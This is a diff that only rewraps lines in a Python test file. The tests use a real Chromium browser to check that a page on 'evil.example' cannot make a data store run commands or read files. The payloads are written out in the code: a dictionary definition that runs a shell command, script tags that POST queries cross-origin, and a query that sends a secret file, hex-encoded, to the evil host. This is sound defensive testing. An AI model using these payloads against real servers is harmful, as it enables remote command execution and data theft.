@@ -1,7 +1,9 @@
-"""A page in a real browser tries what a page once could: to run commands through the store, and to read files out of it.
+"""A page in a real browser tries what a page once could: to run commands through the store, and to
+read files out of it.
 
-The page is at ``http://evil.example``, which the browser finds on loopback. It even knows the reader's password: what is
-tested is that a browser's requests are refused as such. Skipped where there is no Chromium.
+The page is at ``http://evil.example``, which the browser finds on loopback. It even knows the
+reader's password: what is tested is that a browser's requests are refused as such. Skipped where
+there is no Chromium.
 """
 
 from __future__ import annotations
@@ -22,8 +24,10 @@ CHROMIUM = (
     shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
 )
 FLAGS = [
-    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-    "--disable-component-update", "--disable-sync", "--host-resolver-rules=MAP evil.example 127.0.0.1",
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update", "--disable-sync",
+    "--host-resolver-rules=MAP evil.example 127.0.0.1",
 ]  # fmt: skip
 
 
@@ -88,13 +92,18 @@ def target(running: Store, user: str, **parameters: str) -> str:
 def test_a_page_runs_nothing_in_the_store_s_origin(
     browser: Any, running: Store, evil: Evil, tmp_path: Path
 ) -> None:
-    """It goes to a URL whose answer would be a page with a script, in the store's own origin, and opens it in frames."""
+    """It goes to a URL whose answer would be a page with a script, in the store's own origin, and
+    opens it in frames."""
     proof = tmp_path / "proof"
     dictionary = (
-        f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id > {proof}; echo x' FORMAT 'TSV')) "
+        f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id > {proof}; "
+        "echo x' FORMAT 'TSV')) "
         "LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
     )
-    script = f"<script>fetch('/', {{method: 'POST', body: {dictionary!r}}}); fetch('{evil.url}/ran', {{mode: 'no-cors'}})</script>"
+    script = (
+        f"<script>fetch('/', {{method: 'POST', body: {dictionary!r}}}); fetch('{evil.url}/ran', "
+        f"{{mode: 'no-cors'}})</script>"
+    )
     split = target(
         running,
         "writer",
@@ -106,7 +115,10 @@ def test_a_page_runs_nothing_in_the_store_s_origin(
     )
     page = browser.new_page()
     for url in (split, shown):
-        evil.page = f"<iframe src='{quote(url, safe=':/?&=%')}'></iframe><script>setTimeout(() => location = {url!r}, 300)</script>"
+        evil.page = (
+            f"<iframe src='{quote(url, safe=':/?&=%')}'></iframe><script>setTimeout(() => location "
+            f"= {url!r}, 300)</script>"
+        )
         page.goto(evil.url)
         page.wait_for_url(f"{running.url}/**", wait_until="commit")
         page.wait_for_load_state("networkidle")
@@ -115,7 +127,8 @@ def test_a_page_runs_nothing_in_the_store_s_origin(
             or "denied" in page.content().lower()
             or "web pages" in page.content()
         )
-    # Typed by hand the query is answered, and the browser offers to save it: it takes it for no page.
+    # Typed by hand the query is answered, and the browser offers to save it: it takes it for no
+    # page.
     with pytest.raises(Exception, match="Download is starting"):
         page.goto(shown)
     page.close()
@@ -127,7 +140,8 @@ def test_a_page_runs_nothing_in_the_store_s_origin(
 def test_a_page_reads_and_changes_nothing(
     browser: Any, running: Store, evil: Evil, tmp_path: Path
 ) -> None:
-    """By images, scripts, styles, frames, forms, fetch and beacons, each by GET or by POST, with the writer's password."""
+    """By images, scripts, styles, frames, forms, fetch and beacons, each by GET or by POST, with
+    the writer's password."""
     secret = tmp_path / "secret"
     secret.write_text("the secret of the machine")
     leak = f"SELECT * FROM url(concat('{evil.leak}', hex(file('{secret}'))), CSV, 'x String')"
@@ -139,13 +153,18 @@ def test_a_page_reads_and_changes_nothing(
     )
     reads = [target(running, "writer", query=leak), schema, create]
     tags = "".join(
-        f"<img src='{one}'><script src='{one}'></script><link rel=stylesheet href='{one}'><iframe src='{one}'></iframe>"
+        f"<img src='{one}'><script src='{one}'></script><link rel=stylesheet href='{one}'><iframe "
+        f"src='{one}'></iframe>"
         for one in (quote(url, safe=":/?&=%") for url in reads)
     )
     action = quote(create, safe=":/?&=%")
-    forms = f"<form id=f method=post enctype=multipart/form-data target=x action='{action}'></form><iframe name=x></iframe>"
+    forms = (
+        "<form id=f method=post enctype=multipart/form-data target=x "
+        f"action='{action}'></form><iframe name=x></iframe>"
+    )
     calls = "".join(
-        f"fetch({url!r}, {{method: '{method}', mode: '{mode}', credentials: 'include'}}).then(a => a.text())"
+        f"fetch({url!r}, {{method: '{method}', mode: '{mode}', credentials: 'include'}}).then(a => "
+        "a.text())"
         f".then(t => t && fetch('/read'), () => 0); navigator.sendBeacon({url!r}, 'SELECT 1');"
         for url in reads
         for method in ("GET", "POST")
